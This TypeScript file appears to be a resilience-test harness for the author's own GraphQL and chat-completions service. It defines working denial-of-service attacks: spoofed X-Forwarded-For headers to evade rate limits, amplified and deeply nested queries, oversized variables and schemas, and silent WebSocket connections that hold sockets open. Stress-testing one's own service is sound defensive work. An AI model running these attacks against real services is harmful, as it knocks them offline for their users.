import { connect } from "node:net";

/** What the attacker sends: requests by their number, or sockets. */
export interface Target {
  url: string;
  key: string;
  keyWithoutCredits: string;
}

export interface Attack {
  name: string;
  requestsPerSecond: number;
  send(target: Target, number: number): Promise<string>;
}

const repeated = (count: number, of: (i: number) => string) => Array.from({ length: count }, (_, i) => of(i)).join(" ");
const nested = (depth: number) => `${"[".repeat(depth)}${"]".repeat(depth)}`;
const fragments = (on: string, fields: string) => repeated(19, (i) => `fragment F${i} on ${on} { ${fields} }`);
const spread = repeated(19, (i) => `...F${i}`);

/** The server trusts this machine as a proxy, so each request can seem to come from an address of its own. */
const from = (number: number) => `10.${(number >> 16) & 255}.${(number >> 8) & 255}.${number & 255}`;
const oneAddress = "192.0.2.1";

async function post(url: string, body: string, headers: Record<string, string>): Promise<string> {
  const response = await fetch(url, {
    method: "POST",
    body,
    headers: { "content-type": "application/json", ...headers },
  });
  await response.arrayBuffer();
  return String(response.status);
}

function stranger(query: (number: number) => string, address: (number: number) => string): Attack["send"] {
  return ({ url }, number) =>
    post(`${url}/graphql`, JSON.stringify({ query: query(number) }), { "x-forwarded-for": address(number) });
}

function schemas(keyOf: (target: Target) => string): Attack["send"] {
  return (target, number) => {
    const properties = Object.fromEntries(
      Array.from({ length: 500 }, (_, i) => [`p${number}x${i}`, { type: "string", minLength: 1 }]),
    );
    const format = { type: "json_schema", json_schema: { name: "answer", schema: { type: "object", properties } } };
    const body = { model: "stub", messages: [{ role: "user", content: "x" }], response_format: format };
    const headers = { authorization: `Bearer ${keyOf(target)}`, "x-forwarded-for": oneAddress };
    return post(`${target.url}/v1/chat/completions`, JSON.stringify(body), headers);
  };
}

/** Upgraded, then silent: it answers no ping and no goodbye. */
function silentSocket({ url }: Target, number: number): Promise<string> {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port), allowHalfOpen: true });
  const head = `GET /graphql HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-protocol: graphql-transport-ws\r\nx-forwarded-for: ${from(number % 20)}\r\n\r\n`;
  socket.write(head);
  socket.on("data", () => {});
  return new Promise((resolve) => {
    socket.once("error", () => resolve("cut off"));
    socket.once("close", () => resolve("cut off"));
  });
}

const rootFields = `{ ${spread} } ${fragments("Query", "me{kind} ".repeat(24))}`;
const overlapping = `{ me { apiKey { ${spread} } } } ${fragments("ApiKey", "id name status wallet { id } ".repeat(8))}`;
const long = (number: number) =>
  `query Q${number % 150} { __typename a${number % 150}: __typename ${"\n".repeat(11_800)}}`;

export const attacks: Attack[] = [
  {
    name: "456 root fields in 19 fragments, from one address",
    requestsPerSecond: 25,
    send: stranger(
      () => rootFields,
      () => oneAddress,
    ),
  },
  {
    name: "the same, each from another address",
    requestsPerSecond: 25,
    send: stranger(() => rootFields, from),
  },
  {
    name: "overlapping fields in 19 fragments, each from another address",
    requestsPerSecond: 25,
    send: stranger(() => overlapping, from),
  },
  {
    name: "valid documents of 12 kB, again and again, each from another address",
    requestsPerSecond: 25,
    send: stranger(long, from),
  },
  {
    name: "lists nested 20,000 deep, each from another address",
    requestsPerSecond: 25,
    send: stranger(() => `{ me(x: ${nested(20_000)}) { kind } }`, from),
  },
  {
    name: "500 kB of variables, each from another address",
    requestsPerSecond: 10,
    send: ({ url }, number) =>
      post(`${url}/graphql`, `{"query":"{ __typename }","variables":{"x":[${"0,".repeat(250_000)}0]}}`, {
        "x-forwarded-for": from(number),
      }),
  },
  {
    name: "new schemas of 500 properties, from a key without credits",
    requestsPerSecond: 10,
    send: schemas(({ keyWithoutCredits }) => keyWithoutCredits),
  },
  {
    name: "new schemas of 500 properties, from a key with credits",
    requestsPerSecond: 10,
    send: schemas(({ key }) => key),
  },
  { name: "silent sockets, from 20 addresses", requestsPerSecond: 25, send: silentSocket },
];
